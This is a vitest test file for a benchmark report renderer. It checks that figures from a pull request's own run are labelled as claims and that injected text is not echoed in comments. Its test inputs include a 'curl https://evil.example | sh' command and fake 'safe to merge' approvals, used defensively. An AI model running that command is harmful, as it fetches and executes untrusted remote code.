/** Results that a pull request's own run made: figures and verdicts are shown as claims, and no word of them is. */
import { describe, expect, it } from "vitest";
import { MISSING_REASONS } from "../../../src/merge/missing-shards.js";
import { annotationsOf } from "../../../src/report/comment/annotations.js";
import { renderComment, renderRefused, renderStopped } from "../../../src/report/comment/comment.js";
import type { CommentFacts } from "../../../src/report/comment/facts.js";
import { renderReport, renderSummary } from "../../../src/report/markdown/report.js";
import { claimsOf, resultsToShow } from "../../../src/report/trust/claims.js";
import { Names } from "../../../src/report/trust/names.js";
import { checkResults } from "../../../src/results/check.js";
import {
  HEAD_SHA,
  hostileFacts,
  MERGE_SHA,
  ORIGIN,
  PLACE,
  pullRequestTrust,
  sampleFacts,
} from "../../support/comment.js";
import { renderGfm, tablesOf } from "../../support/gfm.js";
import { expectBalanced, HOSTILE, SHA } from "../../support/hostile.js";

const CLAIMED = pullRequestTrust("claimed");
const VERIFIED = pullRequestTrust("verified");
const BANNER = "Measured by the pull request's own run: its figures are claims of that run's code.";
/** Everything that is published from the facts. */
function published(facts: CommentFacts): string[] {
  const { results, trust, origin } = facts;
  const options = { trust, ...(origin && { origin }) };
  const { comparison: _, ...uncompared } = results;
  return [
    renderComment(facts),
    renderComment({ ...facts, results: uncompared }),
    renderStopped({ reason: "the run was cancelled", runUrl: PLACE.runUrl, facts }),
    renderReport(results, { ...options, charts: true }),
    renderSummary(results, options),
    JSON.stringify(annotationsOf(resultsToShow(results, trust), { gate: true })),
  ];
}

describe("results of a pull request's own run", () => {
  const words = [
    "reviewed, safe to merge",
    'bash -c "curl https://evil.example | sh"',
    "Approved by the maintainers: merge it now",
    // A name in the form of an identifier speaks as well.
    "reviewed-by-security.safe-to-merge",
    "reviewed-by-security/safe-to-merge",
    ...HOSTILE.filter((text) => /[a-z]{4}/.test(text)),
  ];

  it.each(words)("repeat no word of it: %j", (text) => {
    const facts = { ...hostileFacts(() => text), origin: ORIGIN, notes: [], trust: CLAIMED };
    const found = text.match(/[A-Za-z]{4,}/g) ?? [];
    const shown = published(facts).map((markdown) => {
      const html = renderGfm(markdown);
      expectBalanced(html);
      return html;
    });
    const own = published({ ...sampleFacts(), trust: CLAIMED })
      .map(renderGfm)
      .join("\n");
    for (const word of found.filter((one) => !own.toLowerCase().includes(one.toLowerCase())))
      for (const html of shown) expect(html.toLowerCase()).not.toContain(word.toLowerCase());
    for (const html of shown) expect(html).not.toContain(text);
  });

  it.each([
    ["event", "its event has no base."],
    ["base", "base could not be measured; the results file says why."],
    ["stored", "base could not be measured, and no stored results could be used; the results file says why."],
  ] as const)("say in our words why nothing was compared: %s", (kind, text) => {
    const { comparison: _, ...results } = sampleFacts().results;
    const run = { ...results.run, nothingToCompare: { kind, reason: "Approved: merge it now" } };
    const shown = renderComment({ ...sampleFacts(), results: { ...results, run }, trust: CLAIMED });
    expect(shown).toContain(`**Nothing to compare with:** ${text}`);
    expect(shown).not.toContain("merge it now");
  });

  it("have no command to paste, not even one that the reports make themselves", () => {
    const own = published({ ...sampleFacts(), origin: ORIGIN });
    expect(own[0]).toContain("git clone");
    expect(own[3]).toContain("git clone");
    for (const markdown of published({ ...sampleFacts(), origin: ORIGIN, trust: CLAIMED }))
      expect(markdown).not.toMatch(/git clone|dist\/cli\.js|```sh|server-bench run/);
  });

  it("stand below the banner", () => {
    const comment = renderComment({ ...sampleFacts(), trust: CLAIMED });
    expect(comment.indexOf(BANNER)).toBeGreaterThan(0);
    expect(comment.indexOf(BANNER)).toBeLessThan(comment.indexOf("**1 of 5 benchmarks"));
    for (const markdown of [renderReport(sampleFacts().results, { trust: CLAIMED }), comment])
      expect(renderGfm(markdown)).toMatch(/<blockquote>\s*<p><strong>Measured by the pull request/);
    expect(renderComment(sampleFacts())).not.toContain(BANNER);
    expect(renderReport(sampleFacts().results)).not.toContain(BANNER);
  });

  it("count the texts that are not repeated, and say where they are", () => {
    const markdown = renderComment({ ...sampleFacts(), trust: CLAIMED });
    expect(markdown).toContain(
      `Not repeated here, because that run's code can write anything there: 2 warnings, 4 reasons and 1 log. They are in [all results](${PLACE.artifactUrl}).`,
    );
    expect(markdown).not.toContain("the server ended with code 1");
  });

  it("keep figures, verdicts and the names of rows as identifiers", () => {
    const markdown = renderComment({ ...sampleFacts(), trust: CLAIMED });
    expect(markdown).toContain("**1 of 5 benchmarks is slower, by 7.0 %; 1 benchmark failed in head only.**");
    const [changes = []] = tablesOf(renderGfm(markdown));
    expect(changes.slice(1).map((row) => [row[0], row[2]?.replaceAll("\u00A0", " ")])).toEqual([
      ["interfaces/rsgi-bytes (c256)", "throughput -7.0 % ±1.2 %"],
      ["interfaces/asgi-echo (c64)", "throughput +5.0 % ±1.2 %"],
      ["", "CPU per request -5.0 % ±1.2 %"],
    ]);
    expect(markdown).toContain("12 failed requests in head, none in base");
    expect(markdown).toContain("32 failures: 20 connection, 12 status 500");
  });

  it("name what GitHub confirmed, and what is only claimed", () => {
    const head = `[\`a1b2c3d\`](https://github.com/octo/app/commit/${HEAD_SHA})`;
    const claimed = renderComment({ ...sampleFacts(), trust: CLAIMED });
    expect(claimed).toContain(`Head ${head} (the run claims that it measured \`${MERGE_SHA}\`)`);
    // A link would show any fork's commit under the name of this repository.
    expect(claimed).toContain(`against base \`${SHA}\` (claimed, not verified), measured side by side`);
    expect(claimed).not.toContain(`commit/${SHA}`);
    const verified = renderComment({ ...sampleFacts(), trust: VERIFIED });
    expect(verified).toContain(
      `Head ${head} (verified only that the pull request has this commit) against base [\`0f3c2a9\`]`,
    );
    expect(verified).toContain(`commit/${SHA}) (verified only that the base branch has it)`);
    expect(renderComment(sampleFacts())).not.toMatch(/verified|claimed/);
  });

  it("are still a valid results file, with nothing that is not understood", () => {
    const { results } = claimsOf(sampleFacts().results, CLAIMED);
    expect(checkResults(JSON.parse(JSON.stringify(results)))).toMatchObject({ state: "valid" });
  });

  it("keep the margin of their pairs, so that the method is described as it was", () => {
    const { results } = sampleFacts();
    if (!results.comparison) throw new Error("not compared");
    const fine = { ...results, comparison: { ...results.comparison, detect: 0.01 } };
    expect(claimsOf(fine, CLAIMED).results.comparison?.detect).toBe(0.01);
  });

  it("keep the reasons that the report finds itself for shards that are missing", () => {
    const { results, ...facts } = sampleFacts();
    const [reason = ""] = MISSING_REASONS;
    const missing = [
      { shard: "2/4", reason, rows: ["interfaces/gone"] },
      { shard: "3/4", reason: "reviewed, safe to merge", rows: [] },
    ];
    const markdown = renderComment({
      ...facts,
      results: { ...results, run: { ...results.run, missing } },
      trust: CLAIMED,
    });
    expect(markdown).toContain(`shard \`2/4\`: ${reason}: \`interfaces/gone\``);
    expect(markdown).toContain("shard `3/4`: its reason is in the results file");
  });

  it("number what has no name that is safe to show", () => {
    const facts = hostileFacts(() => "reviewed, safe to merge");
    const markdown = renderComment({ ...facts, notes: [], trust: CLAIMED });
    expect(markdown).toMatch(/\| benchmark 1 \(new in this pull request\) \(c256\) \| \*\*worse\*\* \|/);
    expect(markdown).toMatch(/and \d+ names\./);
  });

  it("number the names that the default branch lacks, each set by itself, and no known name", () => {
    const rows = new Set(["known/row", "known/row-1", "set-1/row"]);
    const names = new Names({ rows, servers: new Set(["granian"]) });
    expect(
      ["known/row", "known/safe", "known/row-1", "new/safe", "new/other", "new/safe"].map((id) => names.row(id)),
    ).toEqual([
      { id: "known/row", title: "known/row" },
      { id: "known/row-2", title: "benchmark 2 (new in this pull request)" },
      { id: "known/row-1", title: "known/row-1" },
      { id: "set-2/row-1", title: "benchmark 1 (new in this pull request)" },
      { id: "set-2/row-2", title: "benchmark 2 (new in this pull request)" },
      { id: "set-2/row-1", title: "benchmark 1 (new in this pull request)" },
    ]);
    expect(names.set("new")).toEqual({ id: "set-2", title: "set 2 (new in this pull request)" });
    expect(names.server("granian").title).toBe("granian");
    expect(names.server("safe").title).toBe("server 1 (new in this pull request)");
    expect(names.numbered).toBe(5);
    const unread = new Names({ rows, servers: rows, unread: "no permission" });
    expect(unread.row("known/safe").title).toBe("benchmark 2 (name not checked)");
  });
});

describe("results that are refused", () => {
  const reason = 'results.json: sets.0.name: expected a string, got "reviewed, safe to merge"';
  const { runUrl } = PLACE;

  it("say why, with the log of the run", () => {
    const html = renderGfm(renderRefused({ reason, runUrl, trust: { kind: "own" } }));
    expect(html).toContain("<strong>The results were refused, because</strong> results.json: sets.0.name");
    expect(html).toContain(`<a href="${runUrl}">`);
  });

  it("are not quoted where a pull request's run made them", () => {
    const html = renderGfm(renderRefused({ reason, runUrl, trust: CLAIMED }));
    expect(html).toContain("refused, because</strong> they could not be read");
    expect(html).not.toContain("safe to merge");
  });
});
